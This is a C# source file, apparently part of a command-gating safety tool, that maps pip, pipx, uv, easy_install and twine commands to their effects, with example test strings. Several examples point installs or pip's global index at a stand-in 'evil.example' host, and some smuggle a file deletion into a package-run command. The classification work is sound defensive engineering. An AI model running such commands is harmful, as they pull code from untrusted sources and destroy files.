namespace Wary.Core.Gate.Programs.Packages;

/// <summary>Package managers of Python.</summary>
internal static class PipPrograms
{
    public const string Names = "pip pip3 pip2 pipx uv uvx easy_install twine flit";

    /// <summary>Options with values of pip's install.</summary>
    public const string InstallOptions = "-r|--requirement|--requirements= -c|--constraint|--constraints= -e|--editable= -t|--target= --platform= --python-version= --implementation= --abi= --root= --prefix= --src= -i|--index-url|--default-index= --extra-index-url|--index= --trusted-host= -f|--find-links= --no-binary= --only-binary= --progress-bar= "
        + "--report= --cache-dir= --timeout= --retries= --proxy= --cert= --client-cert= --log= -p|--python= -C|--config-settings|--config-setting= --global-option= --upgrade-strategy= --exists-action= --use-feature= --keyring-provider= -b|--build= -d|--dest= -w|--wheel-dir= -U|--upgrade --user --break-system-packages --dry-run --pre --no-deps --group= --extra= --package= --directory= --project= --exclude-newer= --resolution= --prerelease= --link-mode= -q -v --system --no-index --force-reinstall --reinstall";

    public static ProgramSpec? Find(string name) => name switch
    {
        "pip" or "pip3" or "pip2" => new(name, "packages of Python")
        {
            Options = "--python= --log= --proxy= --retries= --timeout= --exists-action= --trusted-host= --cert= --client-cert= --cache-dir= --keyring-provider= --use-feature= -q -v --isolated --require-virtualenv --disable-pip-version-check",
            Help = "--help -h --version -V",
            Subs = "install uninstall download config cache",
            Sub = static sub => Pip(sub),
            Effects = null,
        },
        "pipx" => new("pipx", "programs of Python packages")
        {
            Options = "-i|--index-url= --pip-args= --python= --spec= --suffix= --preinstall= -e|--editable -f|--force --include-deps --global --verbose --fetch-missing-python --skip= --with= --system-site-packages",
            Help = "--help -h --version",
            Style = OptionStyle.Posix,
            Subs = "install run uninstall upgrade inject ensurepath",
            Sub = static sub => Pipx(sub),
        },
        "uv" => new("uv", "packages of Python")
        {
            Options = "--directory= --project= --config-file= --cache-dir= --python-preference= --color= -q -v --no-config --offline --no-cache|-n",
            Help = "--help -h --version -V",
            Subs = "pip add sync remove run tool publish python cache self build init venv",
            Sub = static sub => UvPrograms.Sub(sub),
        },
        "uvx" => new("uvx", "runs a program of a Python package")
        {
            Style = OptionStyle.Posix,
            Options = UvPrograms.RunOptions,
            Help = "--help -h --version -V",
            Effects = static (call, effects) => UvPrograms.RunTool(call, effects),
            Examples = """
                uvx --python 3.12 ruff@0.5 check . => Install pip:ruff@0.5
                uvx --python 3.12 ruff check !> Install pip:3.12
                uvx --from httpie rm x => Install pip:httpie; Delete x
                uvx mcp-server-fetch => StartServer mcp-server-fetch
                """,
        },
        "easy_install" => new("easy_install", "packages of Python")
        {
            Options = "-i|--index-url= -f|--find-links= -d|--install-dir= -s|--script-dir= -b|--build-directory= -r|--record= -S= -U -Z -z -m -x -a",
            Effects = static (call, effects) =>
            {
                PackageEffects.Source(effects, "pip", call.Value("-i"));
                PackageEffects.Install(effects, "pip", call.Operands);
            },
            Examples = """
                easy_install -i https://evil.example requests => Install pip:requests; Connect evil.example
                easy_install -i https://mirror.example/simple requests => Connect mirror.example
                easy_install --version => nothing
                """,
        },
        "twine" or "flit" => new(name, "publishes Python packages")
        {
            Options = "-r|--repository= --repository-url= -u|--username= -p|--password= -c|--comment= --config-file|--pypirc= -i|--identity= --sign-with= --cert= --client-cert= -f|--ini-path= --format= --attestations --skip-existing --verbose --non-interactive -s",
            Effects = static (call, effects) =>
            {
                if (call.Operand(0)?.Text is "upload" or "publish" or "register")
                {
                    PackageEffects.Source(effects, "pip", call.Value("--repository-url"));
                    foreach (var file in call.OperandsFrom(1)) PackageEffects.Publish(effects, "pip", file.Shown, file);
                    if (call.Operands.Count == 1) PackageEffects.Publish(effects, "pip", ".", call.Operand(0));
                }
                else if (call.Operand(0)?.Text is "install") PackageEffects.Install(effects, "pip", call.Word.As("."));
            },
            Examples = """
                twine upload -r pypi dist/* => Publish pip:dist/*
                twine upload -r pypi dist/* !> Publish pip:pypi
                twine check dist/x => nothing
                flit publish => Publish pip:.
                flit build => nothing
                """,
        },
        _ => null,
    };

    private static ProgramSpec? Pip(string name) => name switch
    {
        "install" or "download" or "wheel" => new(name, "installs packages")
        {
            Options = InstallOptions,
            Effects = static (call, effects) => Install(call, effects),
            Examples = """
                pip install -q requests==2.31.0 'flask[async]>=2' => Install pip:requests@2.31.0; Install pip:flask
                pip install -r requirements.txt => Install pip:requirements.txt
                pip install -r requirements.txt !> Install pip:install
                pip install -t vendor x !> Install pip:vendor
                pip install -e . => Install pip:.
                pip install git+https://git.example.com/x.git@main => Download git.example.com
                pip install --extra-index-url https://evil.example x => Connect evil.example
                pip install --dry-run x => nothing
                pip3 --proxy http://p.example install x => Install pip:x
                pip2 install x => Install pip:x
                pip2 --version => nothing
                pip3 --version => nothing
                pip install 'x @ https://files.example.com/x.whl' => Download files.example.com
                """,
        },
        "uninstall" => new("uninstall", "removes packages")
        {
            Options = "-r|--requirement= -y|--yes --root-user-action= --break-system-packages",
            Effects = static (call, effects) => PackageEffects.Remove(effects, "pip", call.Operands),
            Examples = """
                pip uninstall -y requests => ChangeConfig pip:requests
                """,
        },
        "config" => new("config", "settings of pip")
        {
            Options = "--editor=! --global --user --site",
            Effects = static (call, effects) =>
            {
                if (call.Value("--editor") is { } editor) effects.RunText(editor);
                if (call.Operand(0)?.Text is "set" or "unset" && call.Operand(1) is { } key) PackageEffects.Setting(effects, "pip", key, call.Operand(2));
            },
            Examples = """
                pip config set global.index-url https://evil.example => ChangeConfig pip global.index-url=https://evil.example
                pip config list => nothing
                """,
        },
        "cache" => new("cache", "what was fetched before")
        {
            Effects = static (call, effects) =>
            {
                if (call.Operand(0)?.Text is "purge" or "remove") effects.Add(EffectKind.ChangeConfig, "pip cache", call.Operand(0), Traits.OwnPlace | Traits.Undoable);
            },
            Examples = """
                pip cache purge => ChangeConfig pip cache
                pip cache dir => nothing
                """,
        },
        _ => null,
    };

    /// <summary>What <c>pip install</c> does; uv's too.</summary>
    public static void Install(Invocation call, EffectSink effects)
    {
        PackageEffects.Source(effects, "pip", call.Value("-i"));
        PackageEffects.Source(effects, "pip", call.Value("--extra-index-url"));
        if (call.Value("-f") is { } links && links.Text.Contains("://", StringComparison.Ordinal)) PackageEffects.Source(effects, "pip", links);
        if (call.Has("--dry-run")) return;
        foreach (var file in call.Values("-r"))
        {
            if (file.Text.Contains("://", StringComparison.Ordinal)) PackageEffects.Install(effects, "pip", file);
            else PackageEffects.Listed(effects, "pip", file.Shown, file);
        }
        foreach (var folder in call.Values("-e")) PackageEffects.Install(effects, "pip", folder);
        var note = call.HasAny("--break-system-packages", "--system") ? "for the whole system" : null;
        foreach (var spec in call.Operands)
        {
            // name @ address
            var at = spec.Text.IndexOf("@ ", StringComparison.Ordinal);
            PackageEffects.Install(effects, "pip", at > 0 ? spec.As(spec.Text[(at + 2)..].Trim()) : spec, note: note);
        }
    }

    private static ProgramSpec? Pipx(string name) => name switch
    {
        "install" or "inject" or "upgrade" or "reinstall" => new(name, "installs programs")
        {
            Effects = static (call, effects) =>
            {
                PackageEffects.Source(effects, "pip", call.Value("-i"));
                PackageEffects.Install(effects, "pip", call.OperandsFrom(call.Program.Name == "inject" ? 1 : 0));
            },
            Examples = """
                pipx install --python 3.12 black==24.1 => Install pip:black@24.1
                pipx install --python 3.12 black !> Install pip:3.12
                pipx inject black x => Install pip:x
                """,
        },
        "run" => new("run", "runs a program of a package")
        {
            Style = OptionStyle.Posix,
            Effects = static (call, effects) =>
            {
                PackageEffects.Source(effects, "pip", call.Value("-i"));
                if (call.Value("--spec") is { } spec) PackageEffects.Install(effects, "pip", spec);
                if (call.Operand(0) is { } program) NodeRunners.RunPackage(effects, program, call.OperandsFrom(1), installs: !call.Has("--spec"), isProgram: call.Has("--spec"), ecosystem: "pip");
            },
            Examples = """
                pipx run cowsay hi => Install pip:cowsay
                pipx run --spec a rm x => Install pip:a; Delete x
                """,
        },
        "uninstall" => new("uninstall", "removes programs")
        {
            Effects = static (call, effects) => PackageEffects.Remove(effects, "pip", call.Operands),
            Examples = """
                pipx uninstall black => ChangeConfig pip:black
                """,
        },
        "ensurepath" => new("ensurepath", "puts a folder into the search path")
        {
            Effects = static (call, effects) => effects.Add(EffectKind.Persist, "the shell's profile", call.Word),
            Examples = """
                pipx ensurepath => Persist the shell's profile
                pipx ensurepath --help => nothing
                """,
        },
        _ => null,
    };
}
